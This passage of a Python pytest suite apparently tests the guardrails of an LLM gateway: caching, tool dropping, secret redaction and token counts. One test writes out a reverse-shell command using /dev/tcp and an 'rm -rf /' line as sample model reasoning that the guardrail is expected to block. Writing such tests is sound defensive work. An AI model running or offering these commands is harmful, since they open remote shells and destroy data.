    assert r.status_code == 400, r.text
    assert field in r.text
    assert fake_upstream.find(marker) == []


@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
def test_a_responses_answer_repeats_the_clients_instructions_not_the_pack(proxy, fake_upstream, marker, stream):
    fake_upstream.script(Reply(match=marker, content="ok"))
    r = post(proxy, "responses", responses_body(marker, stream=stream))
    assert r.status_code == 200, r.text
    if stream:
        bodies = [e["response"] for e in (json.loads(ln[5:]) for ln in r.text.splitlines()
                                          if ln.startswith("data:") and ln[5:].strip() not in ("", "[DONE]"))
                  if isinstance(e.get("response"), dict)]
    else:
        bodies = [r.json()]
    assert bodies and all(b.get("instructions") == "You are the client's agent." for b in bodies), bodies
    assert CHAT_PACK[:60] not in r.text


@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
@pytest.mark.parametrize("which", sorted(ENDPOINTS))
def test_a_cached_answer_says_hit_on_the_agent_endpoints(proxy, fake_upstream, marker, which, stream):
    """A streamed Responses replay said `miss` (found by a black-box probe)."""
    fake_upstream.script(Reply(match=marker, content="cached once"))
    first, second = (post(proxy, which, ENDPOINTS[which][1](marker, stream=stream)) for _ in range(2))
    assert (first.status_code, second.status_code) == (200, 200), second.text
    assert (first.headers["x-carrot-cache"], second.headers["x-carrot-cache"]) == ("miss", "hit")
    assert len(fake_upstream.find(marker)) == 1 and answer_text(which, second, stream) == "cached once"


@pytest.mark.parametrize("thinking,rule", [("try bash -i >& /dev/tcp/203.0.113.7/4242 0>&1 ok", "revshell-dev-tcp"),
                                           ("I should run rm -rf / first", "destroy-rm-root")],
                         ids=["revshell", "decided-at-end"])
@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
@pytest.mark.parametrize("which", [*sorted(ENDPOINTS), "chat"])
def test_a_block_rule_in_the_reasoning_ends_the_answer_on_every_endpoint(proxy, fake_upstream, marker, which, stream,
                                                                        thinking, rule):
    """The model reasons a dangerous command: the notice, and no answer text after it, streamed or not (a streamed
    Responses or Messages answer went on with its text, and a chat stream with the whole answer when the rule was
    decided only once the reasoning ended; found by black-box probes)."""
    fake_upstream.script(Reply(match=marker, thinking=thinking, chunk_chars=5,
                               content="Here is the full answer you asked for, with all the steps listed out.\n"))
    if which == "chat":
        r = httpx.post(f"{proxy.base_url}/v1/chat/completions", headers=proxy.headers(), timeout=120, json={
            "model": "gpt-4o", "stream": stream, "messages": [{"role": "user", "content": f"q {marker}"}]})
    else:
        r = post(proxy, which, ENDPOINTS[which][1](marker, stream=stream))
    assert r.status_code == 200, r.text
    assert f"blocked by carrot guardrails: {rule}" in r.text and "rm -rf" not in r.text, r.text[-800:]
    assert "/dev/tcp" not in r.text and "answer" not in answer_text(which, r, stream), r.text[-800:]


def test_tools_the_guardrails_cannot_check_are_dropped_and_named(proxy, fake_upstream, marker):
    """Codex's request shape on a tool-capable alias: a namespace of functions is sent, web_search is not."""
    fake_upstream.script(Reply(match=marker, content="ok"))
    namespace = {"type": "namespace", "name": "multi_agent_v1", "description": "sub-agents",
                 "tools": [{"type": "function", **TOOL}]}
    r = post(proxy, "responses", {"model": "alt-reasoning", "input": f"q {marker}", "tools": [
        {"type": "function", **TOOL}, namespace, {"type": "web_search", "external_web_access": False}]})
    assert r.status_code == 200, r.text
    assert r.headers["x-carrot-tools"] == "sent" and r.headers["x-carrot-tools-dropped"] == "tools[2] web_search"
    [up] = fake_upstream.find(marker)
    assert [t["type"] for t in up.json["tools"]] == ["function", "namespace"]


@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
def test_reasoning_summaries_of_a_native_responses_upstream_are_checked(proxy, fake_upstream, marker, stream):
    """alt-reasoning answers on its own /v1/responses, its reasoning summary streamed as OpenAI streams it."""
    secret = planted_secret(marker)
    fake_upstream.script(Reply(match=marker, content="done", thinking=f"the key is {secret}, use it", chunk_chars=5))
    r = post(proxy, "responses", {"model": "alt-reasoning", "input": f"q {marker}", "stream": stream})
    assert r.status_code == 200, r.text
    assert [u.path for u in fake_upstream.find(marker)] == ["/v1/responses"]
    assert secret not in r.text and secret[:12] not in r.text, r.text
    if stream:
        events = [json.loads(ln[5:]) for ln in r.text.splitlines() if ln.startswith("data:") and ln[5:].strip()]
        said = "".join(e["delta"] for e in events if e["type"] == "response.reasoning_summary_text.delta")
        final = next(e for e in events if e["type"] == "response.completed")["response"]
    else:
        said, final = None, r.json()
    [summary] = [s["text"] for o in final["output"] if o["type"] == "reasoning" for s in o["summary"]]
    assert re.fullmatch(r"the key is \[REDACTED:[\w.-]+\], use it", summary) and said in (None, summary), summary


def test_a_request_whose_every_tool_is_dropped_says_dropped(proxy, fake_upstream, marker):
    fake_upstream.script(Reply(match=marker, content="ok"))
    r = post(proxy, "responses", {"model": "alt-reasoning", "input": f"q {marker}", "tool_choice": "required",
                                  "tools": [{"type": "web_search"}]})
    assert r.status_code == 200, r.text
    assert (r.headers["x-carrot-tools"], r.headers["x-carrot-tools-dropped"]) == ("dropped", "tools[0] web_search")
    [up] = fake_upstream.find(marker)
    assert "tools" not in up.json and "tool_choice" not in up.json


@pytest.mark.parametrize("headers,tools", [({}, False), ({"X-Task-Type": "tests"}, False),
                                           ({"X-Task-Type": "refactor", "X-Risk-Level": "low"}, False), ({}, True)],
                         ids=["default-task", "tests-task", "refactor-low", "tools-dropped"])
def test_count_tokens_counts_what_v1_messages_sends_upstream(proxy, fake_upstream, marker, headers, tools):
    """Claude Code's /v1/messages/count_tokens (answered by the gateway) counts what the same request on
    /v1/messages sends upstream: the task's prompt pack, chosen from the same headers, included (a rag task's
    retrieved context is not: a count never retrieves); tools held back from a model that cannot call them are not."""
    from carrot_hooks.litellm_compat import count_message_tokens

    body = {"model": "carrot-chat", "system": "You are the client's agent.",
            "messages": [{"role": "user", "content": f"count {marker} the words of this question"}],
            **({"tools": [{"name": "run", "description": "run a shell command " * 20, "input_schema": TOOL["parameters"]}]}
               if tools else {})}
    extra = {**proxy.headers(), "anthropic-version": "2023-06-01", **headers}
    fake_upstream.script(Reply(match=marker, content="counted"))
    r = httpx.post(f"{proxy.base_url}/v1/messages", json={**body, "max_tokens": 64}, headers=extra, timeout=120)
    assert r.status_code == 200, r.text
    assert r.headers.get("x-carrot-tools") == ("dropped" if tools else None), r.headers
    (sent,) = fake_upstream.find(marker)
    assert "tools" not in sent.json
    counted = httpx.post(f"{proxy.base_url}/v1/messages/count_tokens", json=body, headers=extra, timeout=60)
    assert counted.status_code == 200, counted.text
    assert counted.json()["input_tokens"] == count_message_tokens(sent.json["messages"], None), sent.json["messages"]


@pytest.mark.parametrize("header,value", [("X-Risk-Level", "extreme"), ("X-Task-Type", "poetry"),
                                          ("X-Model-Alias", "ds-coder-v2@1999-01-01")])
def test_count_tokens_refuses_a_header_as_v1_messages_does(proxy, fake_upstream, marker, header, value):
    body = {"model": "carrot-chat", "max_tokens": 16, "messages": [{"role": "user", "content": f"hi {marker}"}]}
    answers = [httpx.post(f"{proxy.base_url}{path}", json=body, timeout=60, headers={
        **proxy.headers(), "anthropic-version": "2023-06-01", header: value})
        for path in ("/v1/messages", "/v1/messages/count_tokens")]
    assert [a.status_code for a in answers] == [400, 400], [a.text for a in answers]
    assert answers[0].json()["error"]["message"] == answers[1].json()["error"]["message"]
    assert header in answers[1].json()["error"]["message"] and not fake_upstream.find(marker)
